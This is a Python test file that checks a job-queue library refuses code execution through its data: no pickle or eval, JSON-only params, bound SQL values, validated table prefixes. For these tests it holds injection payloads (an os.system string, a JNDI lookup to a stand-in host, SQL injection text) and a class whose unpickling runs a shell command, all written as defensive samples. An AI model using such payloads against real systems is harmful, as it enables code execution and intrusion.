"""Security properties that need no database:

- params and results are JSON only: no pickle, no eval. The package uses none of the
  modules and built-ins that turn data into code, except where a test below says why;
- nothing named by a database row is imported: the one dynamic import is the CLI's
  `worker MODULE:CLASS`, whose path comes from the command line;
- user values never become SQL text: the statements written as text take them as bind
  parameters, and table names come only from a validated prefix.
"""

from __future__ import annotations

import ast
import base64
import json
import pickle
from pathlib import Path

import pytest
import sqlalchemy as sa
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy.dialects import mysql, postgresql, sqlite

import queuetopia_py
from queuetopia_py import Queuetopia, migrate
from queuetopia_py._errors import ConfigurationError, InvalidJobError
from queuetopia_py._job import to_params, to_result
from queuetopia_py._schema import build_tables, check_prefix
from queuetopia_py._store.database import Database
from queuetopia_py._store.jobs import JobStore

PACKAGE = Path(queuetopia_py.__file__).parent
EVIL = "'; DROP TABLE x; --"

# Modules whose import, and built-ins whose call, can turn data into code or objects.
RISKY_MODULES = {"pickle", "dill", "marshal", "shelve", "yaml", "importlib", "jsonpickle"}
RISKY_BUILTINS = {"eval", "exec", "compile", "__import__"}
# Where the package may use them, and why.
ALLOWED = {
    # `queuetopia worker MODULE:CLASS` imports the class named on the command line.
    ("_cli.py", "importlib"),
    ("_cli.py", "import_module"),
    # `__version__`: the installed distribution's metadata (importlib.metadata), no import.
    ("__init__.py", "importlib"),
}


def risky_uses() -> set[tuple[str, str]]:
    """(module path, name) of each risky import or call in the package."""
    found = set()
    for path in PACKAGE.rglob("*.py"):
        where = str(path.relative_to(PACKAGE))
        for node in ast.walk(ast.parse(path.read_text(), str(path))):
            if isinstance(node, ast.Import):
                names = [alias.name.split(".")[0] for alias in node.names]
            elif isinstance(node, ast.ImportFrom):
                names = [(node.module or "").split(".")[0]]
                names += [alias.name for alias in node.names]
            elif isinstance(node, ast.Call) and isinstance(node.func, ast.Name):
                names = [node.func.id]  # a built-in, unless shadowed
            elif isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute):
                names = ["import_module"] if node.func.attr == "import_module" else []
            else:
                continue
            risky = RISKY_MODULES | RISKY_BUILTINS | {"import_module"}
            found |= {(where, n) for n in names if n in risky}
    return found


def test_only_the_cli_imports_by_name_and_nothing_uses_pickle_or_eval() -> None:
    assert risky_uses() == ALLOWED


def test_the_cli_imports_only_the_class_named_by_the_worker_argument() -> None:
    tree = ast.parse((PACKAGE / "_cli.py").read_text())
    callers = {
        function.name
        for function in ast.walk(tree)
        if isinstance(function, ast.FunctionDef)
        for call in ast.walk(function)
        if isinstance(call, ast.Call)
        and getattr(call.func, "id", getattr(call.func, "attr", None))
        in ("import_module", "load_queue_class")
    }
    # import_module in load_queue_class, called by the callback of worker's argument.
    assert callers == {"load_queue_class", "_queue_class_callback"}
    from queuetopia_py._cli import worker_command

    (argument,) = [p for p in worker_command.params if p.name == "queue_class"]
    assert argument.callback is not None
    assert argument.callback.__name__ == "_queue_class_callback"


# Payloads that would run code under pickle.loads or eval; as params they are strings.
PAYLOADS = [
    "__import__('os').system('touch /tmp/queuetopia-pwned')",
    "().__class__.__base__.__subclasses__()",
    base64.b64encode(pickle.dumps(Path)).decode(),
    pickle.dumps(Path).decode("latin-1"),
    '{"py/object": "os.system"}',
    "${jndi:ldap://example.invalid/x}",
    EVIL,
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_params_that_look_like_code_are_plain_strings(payload: str) -> None:
    params = {"payload": payload, payload: [payload], "__reduce__": payload}
    assert to_params(params) == params
    assert to_result(params) == (params, None)


class Exploit:
    """An object whose unpickling would run a command."""

    def __reduce__(self) -> tuple[object, tuple[str]]:
        import os

        return (os.system, ("touch /tmp/queuetopia-pwned",))


@pytest.mark.parametrize(
    "value", [Exploit(), pickle.dumps(Exploit()), {"k": Exploit()}, [b"\x80\x04"], {1, 2}]
)
def test_objects_and_bytes_are_refused_not_serialized(value: object) -> None:
    with pytest.raises(InvalidJobError):
        to_params({"v": value})
    stored, why = to_result(value)
    assert stored is None and why


@given(prefix=st.text(max_size=40))
def test_a_table_prefix_is_a_plain_identifier_or_refused(prefix: str) -> None:
    plain = (
        0 < len(prefix) <= 31
        and prefix[0] in "abcdefghijklmnopqrstuvwxyz"
        and all(c in "abcdefghijklmnopqrstuvwxyz0123456789_" for c in prefix)
    )
    if plain:
        assert check_prefix(prefix) == prefix
    else:
        with pytest.raises(ConfigurationError, match="table_prefix: must be lowercase"):
            check_prefix(prefix)


@pytest.mark.parametrize(
    "prefix", [f"x{EVIL}", "queuetopia_\n", "x; DROP TABLE jobs", 'x"', "x`", "\uff58", "X_"]
)
def test_a_malicious_table_prefix_is_refused_everywhere(prefix: str, tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'db.sqlite'}"
    for build in (
        lambda: build_tables(prefix),
        lambda: Queuetopia(repo=url, table_prefix=prefix),
        lambda: migrate(url, prefix=prefix),
    ):
        with pytest.raises(ConfigurationError, match="table_prefix: must be lowercase") as refused:
            build()
        assert repr(prefix) in str(refused.value)
    assert sa.inspect(sa.create_engine(url)).get_table_names() == []


def test_the_statements_written_as_text_bind_every_value() -> None:
    store = JobStore(Database(sa.create_engine("postgresql+psycopg://")), EVIL)
    for traced in (False, True):  # with and without the jobs' trace contexts
        text = str(store._insert_many_pg[traced])
        assert EVIL not in text and ":scope" in text


@pytest.mark.parametrize("dialect", [postgresql.dialect(), mysql.dialect(), sqlite.dialect()])
def test_compiled_statements_take_the_scope_as_a_bind_parameter(dialect: sa.Dialect) -> None:
    store = JobStore(Database(sa.create_engine("sqlite://")), EVIL)
    for statement in (store._insert, store._summaries):
        compiled = statement.compile(dialect=dialect)
        assert EVIL not in str(compiled)
        assert EVIL in compiled.params.values()


def test_params_are_stored_as_json_text() -> None:
    jobs = build_tables().jobs
    assert isinstance(jobs.c.params.type, sa.JSON)
    assert isinstance(jobs.c.result.type, sa.JSON)
    assert json.loads(json.dumps(to_params({"payload": PAYLOADS[0]}))) == {"payload": PAYLOADS[0]}
